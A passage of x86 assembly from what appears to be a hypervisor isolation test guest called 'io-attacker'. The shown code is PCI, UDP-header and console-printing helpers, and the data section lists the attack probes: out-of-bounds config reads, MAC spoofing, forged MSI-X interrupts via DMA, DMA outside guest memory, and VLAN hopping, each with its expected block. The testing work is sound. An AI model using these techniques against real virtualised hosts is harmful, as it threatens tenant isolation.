        ret
pci_read16:
        call pci_select
        xor eax, eax
        in ax, dx
        ret
pci_read8:
        call pci_select
        xor eax, eax
        in al, dx
        ret
pci_write16:
        call pci_select
        out dx, ax
        ret
pci_write32:
        call pci_select
        out dx, eax
        ret

; udp_headers: EDI = frame with MACs, IP addresses and ports filled in, ECX = payload length.
; Writes the rest of the IPv4 and UDP headers (IP checksum computed, UDP checksum 0 = none).
; Returns ECX = the frame length.
udp_headers:
        push eax
        push edx
        mov word [edi + ETH_TYPE], NET_IPV4
        mov dword [edi + IP_HDR], 0x00000045         ; version 4, IHL 5, TOS 0, length below
        mov dword [edi + IP_HDR + 4], 0x00400000     ; id 0, flags DF
        mov dword [edi + IP_HDR + 8], 0x00001140     ; TTL 64, UDP, checksum 0 for now
        lea eax, [ecx + 8]                           ; UDP length
        xchg al, ah
        mov [edi + UDP_LEN], ax
        mov word [edi + UDP_CSUM], 0
        lea eax, [ecx + 28]                          ; IP total length
        xchg al, ah
        mov [edi + IP_HDR + 2], ax
        ; RFC 1071: the ones' complement sum of the header's 16-bit words. It does not depend on
        ; the byte order, so little-endian loads and a little-endian store give the right bytes.
        xor eax, eax
        xor edx, edx
.sum:
        movzx ecx, word [edi + IP_HDR + edx*2]
        add eax, ecx
        inc edx
        cmp edx, 10
        jb .sum
        mov ecx, eax
        shr ecx, 16
        and eax, 0xffff
        add eax, ecx
        mov ecx, eax
        shr ecx, 16
        add eax, ecx
        not eax
        mov [edi + IP_CSUM], ax
        movzx ecx, word [edi + IP_HDR + 2]           ; total length back to host order
        xchg cl, ch
        add ecx, IP_HDR
        pop edx
        pop eax
        ret

; ====================================================================================================
; Text: the put* routines append at [cursor] (the console line, or a frame's payload); flush
; writes the console line with one console_io hypercall. All preserve every register.
; ====================================================================================================
putc:                                       ; AL
        push edi
        mov edi, [cursor]
        cmp edi, [cursor_end]
        jae .full
        mov [edi], al
        inc dword [cursor]
.full:
        pop edi
        ret

puts:                                       ; ESI = NUL-terminated text
        push eax
        push esi
.next:
        mov al, [esi]
        test al, al
        jz .done
        call putc
        inc esi
        jmp .next
.done:
        pop esi
        pop eax
        ret

puthex:                                     ; EAX = value, ECX = digits (from the low end)
        pushad
        mov edx, eax
        mov ebx, ecx
        mov ecx, 8
        sub ecx, ebx
        shl ecx, 2
        rol edx, cl                         ; skip the digits not wanted
        mov ecx, ebx
.digit:
        rol edx, 4
        mov eax, edx
        and eax, 0x0f
        mov al, [hex_digits + eax]
        call putc
        loop .digit
        popad
        ret

putdec:                                     ; EAX = unsigned value
        pushad
        mov ebx, 10
        xor ecx, ecx
.divide:
        xor edx, edx
        div ebx
        push edx
        inc ecx
        test eax, eax
        jnz .divide
.emit:
        pop eax
        add al, '0'
        call putc
        loop .emit
        popad
        ret

putip:                                      ; EAX = IPv4 address as a number (10.0.0.1 = 0x0a000001)
        pushad
        mov edx, eax
        mov ebx, 4
.part:
        rol edx, 8
        movzx eax, dl
        call putdec
        dec ebx
        jz .done
        mov al, '.'
        call putc
        jmp .part
.done:
        popad
        ret

putmac:                                     ; ESI = 6 bytes
        pushad
        mov ebx, 6
        mov ecx, 2
.byte:
        movzx eax, byte [esi]
        call puthex
        inc esi
        dec ebx
        jz .done
        mov al, ':'
        call putc
        jmp .byte
.done:
        popad
        ret

; put_sender: ESI = an IPv4/UDP frame: "<src ip>:<src port> (<src mac>)"
put_sender:
        pushad
        mov eax, [esi + IP_SRC]
        call net_to_host
        call putip
        mov al, ':'
        call putc
        movzx eax, word [esi + UDP_SPORT]
        xchg al, ah
        call putdec
        mov al, ' '
        call putc
        mov al, '('
        call putc
        add esi, ETH_SRC
        call putmac
        mov al, ')'
        call putc
        popad
        ret

; put_payload: ESI = an IPv4/UDP frame, ECX = its length: the payload, quoted, at most
; SHOW_MAX bytes, non-printable bytes as '.'.
put_payload:
        pushad
        mov al, 0x27
        call putc
        sub ecx, PAYLOAD
        jbe .done
        cmp ecx, SHOW_MAX
        jbe .some
        mov ecx, SHOW_MAX
.some:
        add esi, PAYLOAD
.byte:
        mov al, [esi]
        cmp al, ' '
        jb .dot
        cmp al, '~'
        jbe .show
.dot:
        mov al, '.'
.show:
        call putc
        inc esi
        loop .byte
.done:
        mov al, 0x27
        call putc
        popad
        ret

; put_frame_summary: ESI = frame, ECX = length: "<len> bytes, <src mac> -> <dst mac>, type
; <ethertype>", the sender and payload when it is IPv4/UDP, a newline, and a flush.
put_frame_summary:
        pushad
        mov eax, ecx
        call putdec
        push esi
        mov esi, msg_bytes_comma
        call puts
        pop esi
        push esi
        add esi, ETH_SRC
        call putmac
        mov esi, msg_arrow
        call puts
        pop esi
        call putmac
        push esi
        mov esi, msg_type
        call puts
        pop esi
        movzx eax, word [esi + ETH_TYPE]
        xchg al, ah
        push ecx
        mov ecx, 4
        call puthex
        pop ecx
        cmp eax, 0x0800
        jne .end
        cmp ecx, PAYLOAD
        jb .end
        cmp byte [esi + IP_PROTO], IP_PROTO_UDP
        jne .end
        push esi
        mov esi, msg_udp_from
        call puts
        pop esi
        call put_sender
        push esi
        mov esi, msg_to
        call puts
        pop esi
        mov eax, [esi + IP_DST]
        call net_to_host
        call putip
        mov al, ' '
        call putc
        call put_payload
.end:
        mov al, 10
        call putc
        call flush
        popad
        ret

net_to_host:                                ; EAX: a 32-bit number in network byte order
        xchg al, ah
        rol eax, 16
        xchg al, ah
        ret

flush:                                      ; console_io(write) of the line; empties it
        pushad
        mov eax, HYPERCALL_CONSOLE_IO
        mov ebx, CONSOLEIO_WRITE
        mov ecx, [cursor]
        sub ecx, out_buf
        mov edx, out_buf
        vmcall
        mov dword [cursor], out_buf
        popad
        ret

; ====================================================================================================
; Read-only data
; ====================================================================================================
idt_descriptor:
        dw 256 * 8 - 1
        dd IDT
victim_mac:
        db (VICTIM_MAC >> 40) & 0xff, (VICTIM_MAC >> 32) & 0xff, (VICTIM_MAC >> 24) & 0xff
        db (VICTIM_MAC >> 16) & 0xff, (VICTIM_MAC >> 8) & 0xff, VICTIM_MAC & 0xff, 0, 0
reflector_mac:
        db (REFLECTOR_MAC >> 40) & 0xff, (REFLECTOR_MAC >> 32) & 0xff, (REFLECTOR_MAC >> 24) & 0xff
        db (REFLECTOR_MAC >> 16) & 0xff, (REFLECTOR_MAC >> 8) & 0xff, REFLECTOR_MAC & 0xff, 0, 0
hex_digits:
        db '0123456789abcdef'
msg_found:
        db 'io-attacker: VF 8086:10ed at 00:04.0, MSI-X capability at 0x', 0
msg_no_vf:
        db 'io-attacker: no VF at 00:04.0 (ids ', 0
msg_no_vf_tail:
        db `): nothing to attack with, shutting down\n`, 0
msg_no_msix:
        db `io-attacker: the VF has no MSI-X capability, shutting down\n`, 0
msg_mac:
        db 'io-attacker: MAC ', 0
msg_link_up:
        db ', link up', 0
msg_link_down:
        db ', link DOWN', 0
msg_rings:
        db `, 8 tx + 8 rx descriptors (no rx descriptor given yet), MSI-X vector 0x41\n`, 0
msg_hello:
        db 'io-attacker: I am ', 0
msg_victim:
        db '; victim ', 0
msg_reflector:
        db '), reflector ', 0
msg_open:
        db ' (', 0
msg_close_nl:
        db `)\n`, 0
msg_arrow:
        db ' -> ', 0
msg_p1:
        db '[p1] config read of 00:05.0, a function we were not given (expect ffffffff): ', 0
msg_p2:
        db '[p2] config read of 02:00.0, where the host', 0x27, 's PF sits (expect ffffffff): ', 0
msg_p3:
        db '[p3] BAR0 <- f0100000 to move our register window (expect it to read 0, window unmoved): BAR0 reads ', 0
msg_p3_after:
        db ', VFSTATUS at the old window ', 0
msg_c1:
        db '[c1] VFMACL/VFMACH <- the victim', 0x27, 's MAC (read-only; expect our MAC unchanged): MAC now ', 0
msg_m1:
        db '[m1] MSI-X entry 0 address <- fee00010, remappable format, handle 0 = another device', 0x27, 's IRTE (expect Xen to keep its own message; our interrupts stay ours): we read back ', 0
msg_m1_after:
        db ' (our view only)', 0
msg_f1:
        db '[f1] UDP from our own MAC and IP to the reflector:7 (expect: its security group drops it)', 0
msg_f2:
        db '[f2] UDP with the victim', 0x27, 's source MAC and IP to the reflector (expect: anti-spoofing drops it; if not, the echo goes to the victim)', 0
msg_f3:
        db '[f3] our own 802.1Q tag for another VLAN in the frame (expect: VLAN hopping dropped)', 0
msg_sent_dd:
        db ': sent, DD=', 0
msg_tdh:
        db ' TDH=', 0
msg_see_log:
        db ' (the verdict is in the net.frame events)', 0
msg_r1:
        db '[r1] rx DMA into 0x00800000, 8 MiB, not our memory (expect: DMA fault, RDH stays)', 0
msg_r2:
        db '[r2] rx DMA into 0xfee00000: a compatibility-format MSI forged by DMA, data = the frame', 0x27, 's first dword = vector 0x42 (expect: blocked by interrupt remapping)', 0
msg_r3:
        db '[r3] rx DMA into 0xfee00010: remappable format, handle 0, another device', 0x27, 's IRTE (expect: blocked, source-id check)', 0
msg_r4:
        db '[r4] rx DMA into 0xfffff000, the top of the address space (expect: DMA fault)', 0
msg_r5:
        db '[r5] control: rx DMA into our own buffer (expect: the echo arrives)', 0
msg_rx_status:
        db ': status ', 0
msg_rx_len:
        db ' len ', 0
msg_rdh:
        db ' RDH=', 0
msg_irq_41:
        db ', interrupts: 0x41 x', 0
msg_irq_42:
        db ' 0x42 x', 0
msg_irq_other:
        db ' others x', 0
msg_t1:
        db '[t1] tx DMA from 0x00040000, the first byte past our memory (expect: DMA fault, queue stalls)', 0
msg_t2:
        db '[t2] tx DMA from 0x00800000 (expect: DMA fault)', 0
msg_t3:
        db '[t3] tx DMA from 0xfffff000 (expect: DMA fault)', 0
msg_t4:
        db '[t4] tx descriptor ring at 0x00800000 (expect: DMA fault on the descriptor fetch)', 0
msg_tx_dd:
        db ': DD=', 0
msg_reset:
        db '; queues reset', 0
text_f1:
        db 'hello bob, this is mallory', 0
text_f2:
        db 'forged by mallory, as alice', 0
text_f3:
        db 'mallory hops to another VLAN', 0
text_reflect:
        db 'bounce this back to mallory', 0
msg_summary:
        db 'io-attacker: interrupts by vector:', 0
msg_vector:
        db ' 0x', 0
msg_faults:
        db '; exceptions ', 0
msg_bye:
        db `; shutting down\n`, 0
msg_bytes_comma:
        db ' bytes, ', 0
msg_type:
        db ', type ', 0
msg_udp_from:
        db ', UDP from ', 0
msg_to:
        db ' to ', 0
msg_exception:
        db ' -> exception 0x', 0
msg_panic_error:
        db ' error ', 0
msg_panic_eip:
        db ' eip ', 0
msg_panic_cr2:
        db ' cr2 ', 0

image_end:
; The image must end below the data page.
        times -(((KDATA - IMAGE_BASE) - (image_end - $$)) >> 63) db 0
